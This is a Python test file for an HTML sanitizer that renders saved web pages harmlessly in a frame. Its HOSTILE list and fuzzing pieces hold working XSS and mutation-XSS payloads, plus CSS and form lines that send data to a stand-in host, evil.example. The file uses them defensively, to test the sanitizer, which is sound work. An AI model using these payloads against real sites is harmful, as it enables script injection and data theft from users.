"""Saved pages in a frame: they show what they showed, and nothing of them runs, asks
for anything or breaks out.
"""

import re
from html.parser import HTMLParser

import pytest
from hypothesis import given
from hypothesis import strategies as st

from scythe.tree.parse import parse
from scythe.web.snapshots.css import for_media, harmless_css
from scythe.web.snapshots.frame import (
    POLICY,
    SnapshotStyle,
    frame_response,
    render_snapshot,
)

SCRIPTABLE = {
    "script",
    "iframe",
    "frame",
    "object",
    "embed",
    "applet",
    "base",
    "link",
    "svg",
    "math",
    "template",
    "noscript",
    "meta",
}


class _Tags(HTMLParser):
    """All tags of some markup, read by another parser than the one that read the page."""

    def __init__(self, markup: str) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, dict[str, str]]] = []
        self.feed(markup)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, {name: value or "" for name, value in attrs}))


def _check_harmless(markup: str) -> None:
    """No tag or attribute that does something, in the markup as it was written and as a
    browser's parser reads it.
    """
    tree = parse(markup)
    again = [
        (tree.name(node), dict(tree.attributes(node)))
        for node in range(len(tree))
        if not tree.is_text[node]
    ]
    metas = 0
    for tag, attributes in [*_Tags(markup).tags, *again]:
        if tag == "meta":
            metas += 1
            assert attributes == {"charset": "utf-8"}
            continue
        assert tag not in SCRIPTABLE
        for name, value in attributes.items():
            assert not name.startswith("on")
            assert name not in {
                "href",
                "srcset",
                "action",
                "formaction",
                "background",
                "ping",
                "target",
                "srcdoc",
                "name",
                "autofocus",
            }
            if name == "src":
                assert value.startswith("data:image/")
            if name == "style":
                assert "url(" not in value.replace('url("data:', "")
    assert metas == 2
    for css in re.findall(r"<style>(.*?)</style>", markup, re.DOTALL):
        assert not re.search(
            r"@import|expression\(|image-set\(|url\((?!\"data:)", css, re.IGNORECASE
        )


HOSTILE = [
    "<script>alert(1)</script><p>text",
    "<img src=x onerror=alert(1)>",
    "<a href='javascript:alert(1)'>a</a><a href=' jAva\tscript:alert(1)'>b</a><a href='vbscript:x'>c</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>a</a>",
    "<iframe src='javascript:alert(1)' srcdoc='<script>1</script>'></iframe><frameset><frame src=x></frameset>",
    "<object data=x><embed src=x><applet code=x></applet></object>",
    "<base href='http://evil.example/'><meta http-equiv=refresh content='0;url=http://evil.example'>",
    "<link rel=stylesheet href='http://evil.example/x.css'><link rel=dns-prefetch href='//evil.example'>",
    "<svg onload=alert(1)><script>alert(1)</script><a xlink:href='javascript:alert(1)'>x</a></svg>",
    "<svg></p><style><a id='</style><img src=1 onerror=alert(1)>'></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<template><script>alert(1)</script><img src=x onerror=alert(1)></template>",
    "<select><style></select><img src=x onerror=alert(1)></style>",
    "<textarea></textarea><textarea>&lt;/textarea><img src=x onerror=alert(1)></textarea>",
    "<title>&lt;/title><img src=x onerror=alert(1)></title>",
    "<xmp></xmp><img src=x onerror=alert(1)></xmp><plaintext><img src=x onerror=alert(1)>",
    "<form action='http://evil.example'><input name=q autofocus onfocus=alert(1)><button formaction='javascript:1'>",
    "<body background='http://evil.example/x.png' onload=alert(1)>",
    "<img srcset='http://evil.example/x.png 2x'><picture><source srcset='http://evil.example/y'><img></picture>",
    "<video src='http://evil.example/v' poster='http://evil.example/p' onerror=alert(1)></video><audio src=x autoplay></audio>",
    "<div style='background:url(http://evil.example/a);width:expression(alert(1))'>x</div>",
    "<style>@import url(http://evil.example/a);@im\\70ort 'http://evil.example/b';a{background:u\\72 l(http://evil.example)}</style>",
    "<style>input[value^=a]{background:url(//evil.example/a)} i{background:image-set('//evil.example/b' 1x)}</style>",
    "<style></st</style><style>yle><img src=x onerror=alert(1)></style>",
    "<style>a{color:red}<\\/style><script>alert(1)</script></style>",
    "<p title='\"><script>alert(1)</script>'>x</p><p id=\"'><img onerror=alert(1) src=x>\">",
    "<my-element onclick=alert(1)>x</my-element><x-script:y>z</x-script:y><image src=x onerror=alert(1)>",
    "<details ontoggle=alert(1) open>x</details><marquee onstart=alert(1)>x</marquee><isindex action='javascript:1'>",
    "<img name=querySelectorAll><form id=body name=getElementById></form><a id=x name=y>z</a>",
    "<table><tr><td><style></table><img src=x onerror=alert(1)></style><p>x",
    "<div onclick\x00=alert(1) on\x0bclick=alert(1)>x</div><img/src/onerror=alert(1)>",
]


@pytest.mark.parametrize("page", HOSTILE)
def test_hostile_pages_become_harmless_ones(page: str) -> None:
    _check_harmless(render_snapshot(parse(page)))
    _check_harmless(
        render_snapshot(
            parse(
                f"<!doctype html><html><head><title>t</title></head><body>{page}<p>rest</p></body></html>"
            )
        )
    )


_PIECES = st.sampled_from(
    [
        *(
            "<style>",
            "</style>",
            "<svg>",
            "</svg>",
            "<math>",
            "<mtext>",
            "<select>",
            "<table>",
            "<td>",
            "<p>",
            "</p>",
            "<a href=x>",
        ),
        *(
            "<textarea>",
            "</textarea>",
            "<title>",
            "<noscript>",
            "</noscript>",
            "<template>",
            "<xmp>",
            "<plaintext>",
            "<form>",
        ),
        *(
            "<!--",
            "-->",
            "<![CDATA[",
            "]]>",
            "<img src=x onerror=alert(1)>",
            "&lt;script>",
            "<script>",
            "</script>",
            "text",
            "<b>",
        ),
        *(
            "url(http://e/)",
            "@import 'x';",
            "\\75 rl(x)",
            '"',
            "'",
            ">",
            "<",
            "/",
            "<div style='background:url(x)'>",
            "</div>",
        ),
    ]
)


@given(st.lists(_PIECES, max_size=25).map("".join))
def test_no_order_of_pieces_breaks_out(page: str) -> None:
    _check_harmless(render_snapshot(parse(page)))


@given(st.text(alphabet="url(@import) \\75726c\"';{}:/<>*-!ex\n", max_size=60))
def test_no_style_asks_for_anything_or_ends_its_element(css: str) -> None:
    made = harmless_css(css)
    assert "</" not in made
    assert not re.search(r"@import|(?<![\w-])url\((?!\"data:)", made, re.IGNORECASE)


def test_text_and_look_of_a_page_stay() -> None:
    page = "<html lang=de class=no-js><head><style>p.a>b{color:red}</style><body id=top><p class=a>1 < 2 &amp; <b>bold</b>"
    made = render_snapshot(parse(page))
    assert '<html lang="de" class="no-js">' in made
    assert '<body id="top"><p class="a">1 &lt; 2 &amp; <b>bold</b></p>' in made
    assert "p.a>b{color:red}" in made


def test_links_lead_nowhere_but_look_like_links() -> None:
    made = render_snapshot(
        parse("<style>a:link,a:hover{color:green}</style><a href='/soup'>soup</a>")
    )
    assert '<a data-scythe-href="/soup">soup</a>' in made
    assert "a[data-scythe-href],a:hover{color:green}" in made


def test_pictures_become_boxes_of_their_size_with_their_words() -> None:
    made = render_snapshot(
        parse('<img src="http://x.example/a.png" width=400 height="300" alt="Soup">')
    )
    assert "x.example" not in made
    assert "width%3D%27400%27%20height%3D%27300%27" in made
    assert "Soup%3C/text%3E" in made


def test_pictures_that_are_in_the_page_stay() -> None:
    picture = "data:image/png;base64,iVBORw0KGgo="
    assert f'src="{picture}"' in render_snapshot(parse(f'<img src="{picture}">'))
    assert "image/svg+xml,%3Csvg%20xmlns" in render_snapshot(
        parse('<img src="data:image/svg+xml;base64,PHN2Zz4=">')
    )


def test_marks_are_added_to_elements_and_around_texts() -> None:
    tree = parse(
        "<p class='a scythe-fake' data-scythe-slot=fake>Time: <b>10</b> min</p>"
    )
    bold = next(node for node in range(len(tree)) if tree.name(node) == "b")
    marks = {
        bold: {"class": "scythe-box", "data-scythe-slot": "1:s2"},
        bold - 1: {"data-scythe-slot": 'x"<'},
    }
    made = render_snapshot(tree, marks)
    assert (
        '<p class="a"><scythe-text data-scythe-slot="x&quot;&lt;">Time: </scythe-text>'
        in made
    )
    assert '<b class="scythe-box" data-scythe-slot="1:s2">10</b> min</p>' in made


def test_texts_where_no_element_may_stand_get_none() -> None:
    tree = parse("<select><option>one</option></select>")
    text = next(node for node in range(len(tree)) if tree.is_text[node])
    assert "<option>one</option>" in render_snapshot(
        tree, {text: {"data-scythe-slot": "1"}}
    )


def test_noscript_is_shown_for_what_is_marked_in_it() -> None:
    tree = parse("<body><noscript><p>In here</p></noscript><p>out</p>")
    text = next(node for node in range(len(tree)) if "In here" in str(tree.text[node]))
    assert "In here" not in render_snapshot(tree)
    assert "In here" in render_snapshot(tree, {text: {"data-scythe-slot": "1"}})


def test_saved_stylesheets_stand_where_the_page_links_them() -> None:
    tree = parse(
        "<link rel=stylesheet href=a.css media='(min-width: 9px)'><style>b{color:blue}</style>"
    )
    link = next(node for node in range(len(tree)) if tree.name(node) == "link")
    made = render_snapshot(
        tree,
        style=SnapshotStyle(
            {link: "i{color:red;background:url(x.png)}"},
            ".scythe-box{outline:1px solid}",
        ),
    )
    order = [
        made.index(part)
        for part in (
            "@media (min-width: 9px)",
            "i{color:red;background:none}",
            "b{color:blue}",
            ".scythe-box{",
        )
    ]
    assert order == sorted(order)


def test_style_for_strange_media_is_for_all() -> None:
    assert for_media("a{}", "x{}</style>") == "a{}"
    assert for_media("a{}", "print") == "@media print {\na{}\n}"


def test_style_keeps_what_needs_no_network() -> None:
    kept = '.md\\:flex::before{content:"\\201C";background:url("data:image/png;base64,AA")}@media (width <= 6px){a{width:calc(1em)}}'
    assert harmless_css(kept) == kept
    assert (
        harmless_css("a{background:#fff url( 'x.png' ) no-repeat}")
        == "a{background:#fff none no-repeat}"
    )


def test_deep_pages_and_large_ones_are_written() -> None:
    deep = render_snapshot(parse("<div>" * 3_000 + "deep" + "<b>" * 3_000))
    assert "deep" in deep
    large = render_snapshot(parse("<p>word</p>" * 50_000))
    assert large.count("<p>word</p>") == 50_000
    many = render_snapshot(
        parse(
            "<p " + " ".join(f"data-a{number}=1" for number in range(50_000)) + ">x</p>"
        )
    )
    assert many.count("data-a") <= 100


def test_pages_without_a_body_are_written() -> None:
    for page in (
        "",
        "<frameset><frame src=x></frameset>",
        "<html><head></head></html>",
        "just text",
    ):
        _check_harmless(render_snapshot(parse(page)))
    assert "just text" in render_snapshot(parse("just text"))


def test_the_answer_forbids_all_but_showing() -> None:
    answer = frame_response(render_snapshot(parse("half \ud800 a pair")))
    assert answer.headers["content-security-policy"] == POLICY
    assert "default-src 'none'" in POLICY
    assert "script-src" not in POLICY
    assert "allow-scripts" not in POLICY
    assert answer.headers["x-frame-options"] == "SAMEORIGIN"
